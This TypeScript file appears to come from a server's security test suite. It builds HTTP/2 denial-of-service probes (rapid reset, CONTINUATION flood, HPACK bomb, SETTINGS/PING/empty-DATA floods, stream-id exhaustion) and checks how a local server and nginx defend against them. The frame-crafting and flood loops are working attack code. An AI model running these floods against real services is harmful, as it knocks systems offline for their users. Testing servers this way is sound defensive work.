/**
 * HTTP/2 abuse (issue 22 item 3; SPEC §11), each a probe over TLS with ALPN h2 against netsvc and
 * nginx (`listen … ssl http2`): `h2Flood.clients` connections repeat one attack as fast as the
 * socket takes it, reopened whenever the server ends them, while the normal client is timed and
 * memory must come back after:
 *
 * - rapid reset (CVE-2023-44487): a request, then its RST_STREAM, over and over;
 * - CONTINUATION flood (CVE-2024-27316): a HEADERS without END_HEADERS, then CONTINUATIONs forever;
 * - HPACK bomb: one 4,000-byte field put in the dynamic table, then requests of ~100 bytes that
 *   reference it 100 times (400 KB of fields each): past the header-list limit, answered 431;
 * - SETTINGS, PING and empty-DATA floods;
 * - stream-id exhaustion: the last stream id (2^31-1) used at once, then a lower one (which only a
 *   new connection may use): the server must answer the first and end the connection at the second.
 *
 * netsvc's goals (the answer SPEC §11 gives: GOAWAY ENHANCE_YOUR_CALM, counted in http2Floods; 431
 * for a bomb; PROTOCOL_ERROR for a reused id) are judged for netsvc; nginx's answers are printed
 * beside them (goal n/a).
 */
import { CANCEL } from "../../../src/parser/h2/errors.ts";
import {
  FLAG_END_HEADERS,
  FLAG_END_STREAM,
  FRAME_CONTINUATION,
  FRAME_DATA,
  FRAME_HEADERS,
  FRAME_PING,
  FRAME_RST_STREAM,
} from "../../../src/parser/h2/frame.ts";
import { frameBytes, headersFrames, settingsFrame } from "../../../test/helpers/h2-client.ts";
import { field, responseDecoder } from "../../../test/helpers/h2-decode.ts";
import { encodeLiteralFields } from "../../../test/helpers/h2-literal-fields.ts";
import { pause } from "../clock.ts";
import { SMALL_PATH } from "../fixture.ts";
import { type H2AttackConn, H2Attack, type H2Behaviour } from "../h2-attack.ts";
import type { AttackOutcome, Goal, Probe, ProbeContext } from "../probe.ts";
import { readStats } from "../target-stats.ts";

/** The largest stream identifier (RFC 9113 §5.1.1). */
const LAST_STREAM_ID = 2 ** 31 - 1;
/** Frames of one kind per batch written. */
const FRAMES_PER_BATCH = 100;
/** Request/reset pairs per batch of the rapid reset. */
const RESETS_PER_BATCH = 50;
/** HPACK bomb: the field's value size, and references to it per request (RFC 7541 §6.1: index 62). */
const BOMB_VALUE_BYTES = 4000;
const BOMB_REFERENCES = 100;
/** RFC 7541 §2.3.2: the first dynamic-table entry, as an indexed field (§6.1). */
const FIRST_DYNAMIC_ENTRY = 0xbe;
/** HPACK bomb requests per batch. */
const BOMBS_PER_BATCH = 10;

/** A GET of the small file, as literal fields (nothing enters the dynamic table). */
const GET_FIELDS = encodeLiteralFields([
  [":method", "GET"],
  [":scheme", "https"],
  [":authority", "127.0.0.1"],
  [":path", SMALL_PATH],
]);
/** A POST with no END_STREAM (for the empty-DATA flood's stream). */
const POST_FIELDS = encodeLiteralFields([
  [":method", "POST"],
  [":scheme", "https"],
  [":authority", "127.0.0.1"],
  [":path", SMALL_PATH],
]);
/** A CONTINUATION fragment: the field `x: y` (literal, new name; §6.2.2) repeated to 16,380 bytes. */
const JUNK_FIELDS = Buffer.concat(Array.from({ length: 16_380 / 5 }, () => Buffer.from([0x00, 0x01, 0x78, 0x01, 0x79])));

const repeat = (frame: Uint8Array, n: number) => Buffer.concat(Array.from({ length: n }, () => frame));
const SETTINGS_BATCH = repeat(settingsFrame([]), FRAMES_PER_BATCH);
const PING_BATCH = repeat(frameBytes(FRAME_PING, 0, 0, new Uint8Array(8)), FRAMES_PER_BATCH);

/** RFC 7541 §5.1 integer with an `n`-bit prefix after `first`'s flag bits. */
function hpackInteger(value: number, n: number, first: number): number[] {
  const max = (1 << n) - 1;
  if (value < max) return [first | value];
  const out = [first | max];
  for (value -= max; value >= 128; value >>>= 7) out.push((value & 0x7f) | 0x80);
  out.push(value);
  return out;
}
/** The bomb's first block: a GET and `x-bomb: v…` with incremental indexing (RFC 7541 §6.2.1). */
const BOMB_FIRST = Buffer.concat([
  GET_FIELDS,
  Buffer.from([0x40, ...hpackInteger(6, 7, 0), ...Buffer.from("x-bomb"), ...hpackInteger(BOMB_VALUE_BYTES, 7, 0)]),
  Buffer.alloc(BOMB_VALUE_BYTES, "v"),
]);
/** Every later block: a GET and 100 references to that entry. */
const BOMB_NEXT = Buffer.concat([GET_FIELDS, Buffer.alloc(BOMB_REFERENCES, FIRST_DYNAMIC_ENTRY)]);

/** What a flood probe saw, for the tests. */
export interface H2FloodData {
  opened: number;
  closedByServer: number;
  /** GOAWAY error codes received, by §7 name. */
  goaways: Record<string, number>;
  /** Responses by :status (the probes that decode them). */
  statuses: Record<string, number>;
  /** netsvc's stats().http2Floods during the attack (null for nginx). */
  counted: number | null;
}

/** Counters a behaviour keeps across connections (for the goals). */
interface Tally {
  /** Responses by :status. */
  statuses: Record<string, number>;
}

/** One flood probe: `behaviour(tally)` per run, `goals` judged on what came back. */
function floodProbe(
  name: string,
  what: string,
  behaviour: (tally: Tally) => H2Behaviour,
  goals: (attack: H2Attack, tally: Tally, floodsCounted: number | null, netsvc: boolean) => Goal[],
): Probe {
  return {
    name,
    target: () => ({ tls: true, http2: true }),
    describe: (s) => `${s.h2Flood.clients} h2 connections ${what}, reopened when ended, for ${s.h2Flood.durationMs / 1000} s`,
    async attack({ target, settings }: ProbeContext): Promise<AttackOutcome> {
      const before = await readStats(target.port, "", true);
      const tally: Tally = { statuses: {} };
      const attack = new H2Attack(target.port, behaviour(tally));
      await attack.start(settings.h2Flood.clients);
      await pause(settings.h2Flood.durationMs);
      attack.stop();
      const after = await readStats(target.port, "", true);
      const counted = before && after ? (after.stats.http2Floods ?? 0) - (before.stats.http2Floods ?? 0) : null;
      const statuses = Object.entries(tally.statuses)
        .map(([k, v]) => `${k} ${v}`)
        .join(", ");
      return {
        notes: {
          ...attack.notes(),
          ...(statuses ? { "responses by status": statuses } : {}),
          ...(counted === null ? {} : { "counted in http2Floods": counted }),
        },
        goals: goals(attack, tally, counted, target.name === "netsvc"),
        data: {
          opened: attack.opened,
          closedByServer: attack.closedByServer,
          goaways: attack.goaways,
          statuses: tally.statuses,
          counted,
        } satisfies H2FloodData,
      };
    },
  };
}

/** Counts each response's :status (a decoder is on for the probes that need it). */
function countStatus(tally: Tally, f: { type: number; headers?: [string, string][] }): void {
  const status = f.type === FRAME_HEADERS ? field(f.headers, ":status") : undefined;
  if (status) tally.statuses[status] = (tally.statuses[status] ?? 0) + 1;
}

/** netsvc: the attack ended its connections with GOAWAY ENHANCE_YOUR_CALM, each counted. */
function calmGoals(attack: H2Attack, _t: Tally, counted: number | null, netsvc: boolean): Goal[] {
  const calm = attack.goawaysOf("ENHANCE_YOUR_CALM");
  return [
    {
      goal: "the flood ends its connection: GOAWAY ENHANCE_YOUR_CALM (netsvc)",
      measured: `${calm} GOAWAY ENHANCE_YOUR_CALM, ${attack.closedByServer} connections ended by the server`,
      met: netsvc ? calm > 0 && attack.closedByServer > 0 : null,
    },
    {
      goal: "each counted in stats().http2Floods (netsvc)",
      measured: counted === null ? "n/a" : `${counted} counted of ${calm}`,
      met: netsvc && counted !== null ? counted >= calm && calm > 0 : null,
    },
  ];
}

export const h2RapidReset = floodProbe(
  "h2 rapid reset",
  "open a stream and reset it at once (CVE-2023-44487)",
  () => ({
    next(c: H2AttackConn) {
      const pairs: Uint8Array[] = [];
      for (let i = 0; i < RESETS_PER_BATCH; i++) {
        const id = c.takeStreamId();
        pairs.push(headersFrames(id, GET_FIELDS, true), frameBytes(FRAME_RST_STREAM, 0, id, Uint8Array.of(0, 0, 0, CANCEL)));
      }
      return Buffer.concat(pairs);
    },
  }),
  calmGoals,
);

export const h2ContinuationFlood = floodProbe(
  "h2 continuation flood",
  "send a HEADERS without END_HEADERS, then CONTINUATIONs forever (CVE-2024-27316)",
  () => {
    const continuation = frameBytes(FRAME_CONTINUATION, 0, 1, JUNK_FIELDS);
    return {
      next(c: H2AttackConn) {
        if (c.step++ > 0) return continuation;
        return frameBytes(FRAME_HEADERS, 0, c.takeStreamId(), GET_FIELDS);
      },
    };
  },
  calmGoals,
);

export const h2HpackBomb = floodProbe(
  "h2 hpack bomb",
  `put a ${BOMB_VALUE_BYTES}-byte field in the HPACK table, then send requests referencing it ${BOMB_REFERENCES} times`,
  (tally) => ({
    decoder: responseDecoder,
    next(c: H2AttackConn) {
      const blocks: Uint8Array[] = [];
      for (let i = 0; i < BOMBS_PER_BATCH; i++) blocks.push(headersFrames(c.takeStreamId(), c.step++ === 0 ? BOMB_FIRST : BOMB_NEXT, true));
      return Buffer.concat(blocks);
    },
    frame: (_c, f) => countStatus(tally, f),
  }),
  (attack, tally, _counted, netsvc) => [
    {
      goal: "a bomb is refused 431 before any servlet (netsvc), the table kept in step",
      measured: `${tally.statuses["431"] ?? 0} answered 431, ${Object.values(tally.statuses).reduce((a, b) => a + b, 0)} answers; ${attack.goawaysOf("COMPRESSION_ERROR")} COMPRESSION_ERROR`,
      met: netsvc ? (tally.statuses["431"] ?? 0) > 0 && attack.goawaysOf("COMPRESSION_ERROR") === 0 : null,
    },
  ],
);

export const h2SettingsFlood = floodProbe(
  "h2 settings flood",
  `send SETTINGS frames, ${FRAMES_PER_BATCH} a write`,
  () => ({ next: () => SETTINGS_BATCH }),
  calmGoals,
);

export const h2PingFlood = floodProbe(
  "h2 ping flood",
  `send PING frames, ${FRAMES_PER_BATCH} a write`,
  () => ({ next: () => PING_BATCH }),
  calmGoals,
);

export const h2EmptyDataFlood = floodProbe(
  "h2 empty data flood",
  `open a POST and send empty DATA frames on it, ${FRAMES_PER_BATCH} a write`,
  () => {
    const empty = repeat(frameBytes(FRAME_DATA, 0, 1, new Uint8Array(0)), FRAMES_PER_BATCH);
    return {
      next(c: H2AttackConn) {
        if (c.step++ > 0) return empty;
        return frameBytes(FRAME_HEADERS, FLAG_END_HEADERS, c.takeStreamId(), POST_FIELDS);
      },
    };
  },
  calmGoals,
);

export const h2StreamIdExhaustion = floodProbe(
  "h2 stream id exhaustion",
  `open stream ${LAST_STREAM_ID} (the last id), then a lower one`,
  (tally) => ({
    decoder: responseDecoder,
    next(c: H2AttackConn) {
      // Step 0: the last id; 1: wait for its answer; 2: a lower id, which §5.1.1 forbids; 3: wait.
      if (c.step === 0) {
        c.step = 1;
        return headersFrames(LAST_STREAM_ID, GET_FIELDS, true);
      }
      if (c.step !== 2) return null;
      c.step = 3;
      return headersFrames(1, GET_FIELDS, true);
    },
    frame(c, f) {
      countStatus(tally, f);
      if (f.streamId === LAST_STREAM_ID && (f.flags & FLAG_END_STREAM) !== 0 && c.step === 1) c.step = 2;
    },
  }),
  (attack, tally, _counted, netsvc) => [
    {
      goal: "the last id is answered, a lower one ends the connection with PROTOCOL_ERROR (netsvc)",
      measured: `${tally.statuses["200"] ?? 0} answered 200, ${attack.goawaysOf("PROTOCOL_ERROR")} GOAWAY PROTOCOL_ERROR, ${attack.closedByServer} ended`,
      met: netsvc ? (tally.statuses["200"] ?? 0) > 0 && attack.goawaysOf("PROTOCOL_ERROR") > 0 : null,
    },
  ],
);
